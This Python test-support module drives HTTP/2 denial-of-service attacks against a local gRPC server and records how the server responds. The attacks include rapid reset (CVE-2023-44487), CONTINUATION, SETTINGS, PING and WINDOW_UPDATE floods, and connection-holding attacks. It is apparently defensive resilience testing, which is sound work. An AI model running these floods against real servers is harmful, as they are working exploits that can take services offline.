"""The attacker side of `tests.support.h2_attacks`: raw HTTP/2 frames, hand-packed, written
as fast as the server takes them, from a process of its own that imports little (it is
spawned, not forked: the prober's gRPC client runs threads)."""

from __future__ import annotations

import multiprocessing
import socket
import struct
import threading
import time
from dataclasses import dataclass
from typing import Callable, Iterator

from transport.h2 import frames as w

CHECK = "/envoy.service.auth.v3.Authorization/Check"
_HEAD = struct.Struct(">BHBBI")


def literal(name: bytes, value: bytes) -> bytes:
    """HPACK literal without indexing (no decoder state: every block is independent)."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_block(path: str = CHECK, extra: list[tuple[bytes, bytes]] | None = None,
                  fields: list[tuple[bytes, bytes]] | None = None) -> bytes:
    fields = fields if fields is not None else [
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"x"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")]
    return b"".join(literal(n, v) for n, v in fields + (extra or []))


def message(body: bytes) -> bytes:
    return b"\0" + len(body).to_bytes(4, "big") + body


def open_streams(first: int, n: int) -> bytes:
    return b"".join(w.frame(w.HEADERS, w.END_HEADERS, first + 2 * i, request_block()) for i in range(n))


# --- attacks: each yields the bytes to write after the preface, as fast as the socket takes them

def settings_toggle() -> Iterator[bytes]:
    """1,000 open streams, then SETTINGS_INITIAL_WINDOW_SIZE toggled: each walked every stream."""
    yield open_streams(1, 1000)
    pair = w.settings({w.SETTINGS_INITIAL_WINDOW_SIZE: 100_000}) + w.settings({w.SETTINGS_INITIAL_WINDOW_SIZE: 65_535})
    chunk = pair * 2000
    while True:
        yield chunk


def rapid_reset() -> Iterator[bytes]:
    """HEADERS + RST_STREAM(CANCEL), as fast as one client sends them (CVE-2023-44487)."""
    block, sid = request_block(), 1
    while True:
        parts = []
        for _ in range(2000):
            parts.append(w.frame(w.HEADERS, w.END_HEADERS, sid, block) + w.rst_stream(sid, w.CANCEL))
            sid += 2
        yield b"".join(parts)


def continuation_flood() -> Iterator[bytes]:
    """A header block that never ends: empty CONTINUATION frames (CVE-2024-27316's family)."""
    yield w.frame(w.HEADERS, 0, 1, request_block()[:10])
    chunk = w.frame(w.CONTINUATION, 0, 1) * 20000
    while True:
        yield chunk


def settings_flood() -> Iterator[bytes]:
    """SETTINGS frames whose ACKs the client never reads."""
    chunk = w.settings({}) * 20000
    while True:
        yield chunk


def ping_flood() -> Iterator[bytes]:
    chunk = w.frame(w.PING, 0, 0, b"12345678") * 10000
    while True:
        yield chunk


def empty_data_flood() -> Iterator[bytes]:
    yield w.frame(w.HEADERS, w.END_HEADERS, 1, request_block())
    chunk = w.frame(w.DATA, 0, 1) * 20000
    while True:
        yield chunk


def half_preface() -> Iterator[bytes]:
    """Half a connection preface, then nothing (with 100 connections at once)."""
    yield w.PREFACE[:12]


def body_hoarding() -> Iterator[bytes]:
    """8 requests whose 512 KiB bodies never end (with 16 connections at once)."""
    yield w.PREFACE + w.settings({})
    chunk = bytes(16384)
    for sid in range(1, 17, 2):
        yield w.frame(w.HEADERS, w.END_HEADERS, sid, request_block())
        yield b"".join(w.frame(w.DATA, 0, sid, chunk) for _ in range(32))


def window_update_flood() -> Iterator[bytes]:
    chunk = w.window_update(0, 1) * 20000
    while True:
        yield chunk


@dataclass(frozen=True)
class Attack:
    name: str
    frames: Callable[[], Iterator[bytes]]
    reads: bool = True  # the attacker reads (and drops) what the server sends
    connections: int = 1  # at once
    preface: bool = True  # the attacker's frames come after a preface and SETTINGS
    hold: bool = False  # once its frames are sent, the connection is kept open until the end


ATTACKS = {a.name: a for a in [
    Attack("settings_toggle_1000_streams", settings_toggle),
    Attack("rapid_reset", rapid_reset),
    Attack("continuation_flood", continuation_flood),
    Attack("settings_flood_unread", settings_flood, reads=False),
    Attack("ping_flood", ping_flood),
    Attack("empty_data_flood", empty_data_flood),
    Attack("window_update_flood", window_update_flood),
]}
# resources held rather than work asked for (issue 14, finding 5)
HOLDING = {a.name: a for a in [
    Attack("half_preface_x100", half_preface, reads=False, connections=100, preface=False, hold=True),
    Attack("body_hoarding_16x8x512k", body_hoarding, connections=16, preface=False, hold=True),
]}


class FrameReader:
    """What the server sent: its GOAWAY and RST_STREAM codes."""

    def __init__(self, goaways: list[int], resets: list[int]) -> None:
        self.buf, self.goaways, self.resets = b"", goaways, resets

    def feed(self, data: bytes) -> None:
        self.buf += data
        while len(self.buf) >= 9:
            hi, lo, ftype, _, _ = _HEAD.unpack_from(self.buf)
            n = hi << 16 | lo
            if len(self.buf) < 9 + n:
                break
            if ftype == w.GOAWAY:
                self.goaways.append(int.from_bytes(self.buf[13:17], "big"))
            elif ftype == w.RST_STREAM:
                self.resets.append(int.from_bytes(self.buf[9:13], "big"))
            self.buf = self.buf[9 + n:]


def _read_frames(sock: socket.socket, reader: FrameReader) -> None:
    try:
        while data := sock.recv(1 << 16):
            reader.feed(data)
    except OSError:
        return


def _hold(sock: socket.socket, reader: FrameReader, deadline: float) -> None:
    """Keep the connection until the end, reading what comes, or until the server closes it."""
    while time.monotonic() < deadline:
        try:
            data = sock.recv(1 << 16)
        except socket.timeout:
            continue
        if not data:
            return
        reader.feed(data)


def _one_connection(port: int, attack: Attack, deadline: float, reader: FrameReader) -> None:
    sock = socket.create_connection(("127.0.0.1", port))
    sock.settimeout(0.2)
    if attack.reads and not attack.hold:
        threading.Thread(target=_read_frames, args=(sock, reader), daemon=True).start()
    try:
        if attack.preface:
            sock.sendall(w.PREFACE + w.settings({}))
        for chunk in attack.frames():
            view = memoryview(chunk)
            while view and time.monotonic() < deadline:
                try:
                    sent = sock.send(view)
                except (socket.timeout, BlockingIOError):
                    if attack.hold:  # the server holds back: read what it says meanwhile
                        _hold(sock, reader, time.monotonic() + 0.01)
                    continue  # the server stopped reading: keep trying until the end
                view = view[sent:]
            if time.monotonic() >= deadline:
                return
        if attack.hold:
            _hold(sock, reader, deadline)
    except OSError:
        return  # closed by the server: the attacker comes back
    finally:
        sock.close()


def _attacker(port: int, name: str, duration: float, out) -> None:
    attack, deadline = {**ATTACKS, **HOLDING}[name], time.monotonic() + duration
    goaways: list[int] = []
    resets: list[int] = []
    connections = 0

    def loop() -> None:
        nonlocal connections
        while time.monotonic() < deadline:
            connections += 1
            try:
                _one_connection(port, attack, deadline, FrameReader(goaways, resets))
            except OSError:
                time.sleep(0.01)

    threads = [threading.Thread(target=loop) for _ in range(attack.connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    out.put({"connections": connections, "goaways": sorted(set(goaways)), "resets": sorted(set(resets))})


def run_attack(port: int, name: str, duration: float) -> dict:
    """The attack in a child process for `duration` seconds: how often it had to reconnect
    and the GOAWAY codes it saw."""
    ctx = multiprocessing.get_context("spawn")
    out = ctx.Queue()
    proc = ctx.Process(target=_attacker, args=(port, name, duration, out), daemon=True)
    proc.start()
    result = out.get(timeout=duration + 30)
    proc.join(10)
    return result


